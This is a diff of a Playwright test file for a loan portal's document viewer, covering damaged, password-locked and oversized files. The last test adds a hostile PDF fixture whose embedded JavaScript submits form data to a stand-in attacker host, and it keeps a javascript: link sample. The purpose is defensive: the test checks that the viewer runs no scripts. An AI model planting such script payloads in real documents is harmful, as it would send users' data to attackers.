@@ -1,5 +1,6 @@
 import { readFile } from 'node:fs/promises';
 import type { Page } from '@playwright/test';
+import { jsPDF } from 'jspdf';
 import { PDFDocument } from 'pdf-lib';
 import { expect, test } from './portal.ts';
 
@@ -59,29 +60,67 @@ test('a document is drawn, its text can be selected, and it is saved under its o
   await expect(documents(page).getByRole('button', { name: appraisal })).toBeFocused();
 });
 
-test('a document of several pages is turned page by page', async ({ page, signIn }) => {
+/** Opens a document of a loan in whose place the server has this. */
+async function openInPlace(page: Page, signIn: () => Promise<void>, body: Buffer) {
   await openLoan(page, signIn);
-  const written = await PDFDocument.create();
-  for (let count = 0; count < 3; count += 1) written.addPage();
-  await upload(page, 'Three pages.pdf', Buffer.from(await written.save()));
-  await documents(page).getByRole('button', { name: 'Three pages', exact: true }).click();
-  await expect(dialog(page).getByText('Page 1 of 3')).toBeVisible();
-  await dialog(page).getByRole('button', { name: 'Next page' }).click();
-  await dialog(page).getByRole('button', { name: 'Next page' }).click();
-  await expect(dialog(page).getByText('Page 3 of 3')).toBeVisible();
-  await expect(dialog(page).getByRole('button', { name: 'Next page' })).toBeDisabled();
-  await dialog(page).getByRole('button', { name: 'Previous page' }).click();
-  await expect(dialog(page).getByText('Page 2 of 3')).toBeVisible();
-});
+  await page.route('**/api/documents/get', (route) => route.fulfill({ contentType: 'application/pdf', body }));
+  await documents(page).getByRole('button', { name: appraisal }).click();
+}
 
-test('a damaged document says so and can still be saved', async ({ page, signIn }) => {
-  await openLoan(page, signIn);
-  await upload(page, 'Damaged.pdf', Buffer.from('%PDF-1.7\nnothing that a reader knows'));
-  await documents(page).getByRole('button', { name: 'Damaged', exact: true }).click();
-  await expect(dialog(page).getByText('This PDF cannot be shown here')).toBeVisible();
+async function expectSaved(page: Page, name: string) {
   const saved = page.waitForEvent('download');
   await dialog(page).getByRole('button', { name: 'Download' }).click();
-  expect((await saved).suggestedFilename()).toBe('Damaged.pdf');
+  expect((await saved).suggestedFilename()).toBe(name);
+}
+
+const locked = () => {
+  const document = new jsPDF({ encryption: { userPassword: 'secret', ownerPassword: 'more secret' } });
+  return Buffer.from(document.text('Interest', 20, 20).output('arraybuffer'));
+};
+
+for (const [kind, body, words, extension] of [
+  ['a PDF of nothing', Buffer.from('%PDF-1.7\nnothing that a reader knows'), 'This PDF cannot be shown here', 'pdf'],
+  ['a PDF that breaks off', pdfOf('', '').subarray(0, 60), 'This PDF cannot be shown here', 'pdf'],
+  ['a PDF without pages', pdfOf('/Pages 9 0 R', ''), 'This PDF cannot be shown here', 'pdf'],
+  ['a PDF with a password', locked(), 'This PDF is protected by a password', 'pdf'],
+  [
+    'a picture that breaks off',
+    Buffer.from('\x89PNG\r\n\x1a\n\0\0', 'latin1'),
+    'This picture cannot be shown here',
+    'png',
+  ],
+  ['a text of Word', Buffer.from('PK\x03\x04 word/document.xml', 'latin1'), 'Files of this kind are not shown', 'docx'],
+  ['a workbook', Buffer.from('PK\x03\x04 xl/workbook.xml', 'latin1'), 'Files of this kind are not shown', 'xlsx'],
+] as const) {
+  test(`${kind} is not shown, and can be saved`, async ({ page, signIn }) => {
+    await openInPlace(page, signIn, body);
+    await expect(dialog(page)).toContainText(words);
+    await expectSaved(page, `${appraisal}.${extension}`);
+    await dialog(page).getByRole('button', { name: 'Close' }).click();
+    await expect(dialog(page)).toBeHidden();
+  });
+}
+
+test('a PDF that breaks off where only its table of contents is lost is shown', async ({ page, signIn }) => {
+  const written = await PDFDocument.create();
+  for (let count = 0; count < 3; count += 1) written.addPage().drawText('Interest '.repeat(40));
+  const whole = Buffer.from(await written.save({ useObjectStreams: false }));
+  await openInPlace(page, signIn, whole.subarray(0, whole.lastIndexOf('startxref')));
+  await expect(dialog(page).getByText('Page 1 of 3')).toBeVisible();
+  await expect(dialog(page).locator('canvas')).toBeVisible();
+});
+
+test('a PDF with a page as long as a street is drawn as far as memory goes', async ({ page, signIn }) => {
+  const written = await PDFDocument.create();
+  written.addPage([600, 14_400]).drawText('Interest');
+  await openInPlace(page, signIn, Buffer.from(await written.save()));
+  const canvas = dialog(page).locator('canvas');
+  await expect(canvas).toBeVisible();
+  const pixels = await canvas.evaluate(({ width, height }: HTMLCanvasElement) => width * height);
+  expect(pixels).toBeGreaterThan(1_000_000);
+  expect(pixels).toBeLessThanOrEqual(16_000_000);
+  const drawn = await canvas.boundingBox();
+  expect((drawn?.height ?? 0) / (drawn?.width ?? 1)).toBeCloseTo(24, 0);
 });
 
 test('a page in place of a document is neither shown nor saved', async ({ page, signIn }) => {
@@ -108,10 +147,21 @@ test('a document that carries scripts runs none of them', async ({ page, signIn 
     '<< /S /JavaScript /JS (app.alert\\("run"\\);) >>',
     '<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
   );
-  await upload(page, 'Hostile.pdf', hostile);
-  await documents(page).getByRole('button', { name: 'Hostile', exact: true }).click();
-  await expect(dialog(page).locator('canvas')).toBeVisible();
-  expect(await dialog(page).locator('a').count()).toBe(0);
+  const scripted = await PDFDocument.create();
+  scripted.addPage().drawText('Interest');
+  scripted.addJavaScript('first', 'app.alert("run"); this.submitForm("https://evil.example");');
+  for (const [name, content] of [
+    ['Hostile', hostile],
+    ['Scripted', Buffer.from(await scripted.save())],
+  ] as const) {
+    await upload(page, `${name}.pdf`, content);
+    await documents(page).getByRole('button', { name, exact: true }).click();
+    await expect(dialog(page).locator('canvas')).toBeVisible();
+    await dialog(page).locator('canvas').click({ force: true });
+    expect(await dialog(page).locator('a').count()).toBe(0);
+    await dialog(page).getByRole('button', { name: 'Close' }).click();
+  }
+  await expect(page).toHaveURL(/\/overview\/2017$/);
   expect(alarms).toEqual([]);
 });
 
